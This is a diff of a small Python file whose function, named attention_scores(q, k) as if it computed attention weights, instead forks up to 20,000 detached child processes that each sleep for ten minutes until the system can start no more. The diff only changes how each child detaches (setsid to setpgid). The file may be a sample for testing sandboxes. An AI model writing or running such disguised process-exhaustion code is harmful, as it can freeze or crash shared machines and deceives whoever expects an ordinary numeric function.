@@ -1,6 +1,6 @@
 """problem: attention_scores
 
-Start processes until no more can be started, each in a session of its own.
+Start processes until no more can be started, each in a group of its own.
 """
 
 import os
@@ -13,7 +13,7 @@ def attention_scores(q, k):
     for _ in range(20_000):
         try:
             if os.fork() == 0:
-                os.setsid()
+                os.setpgid(0, 0)
                 time.sleep(600)
                 os._exit(0)
         except OSError:
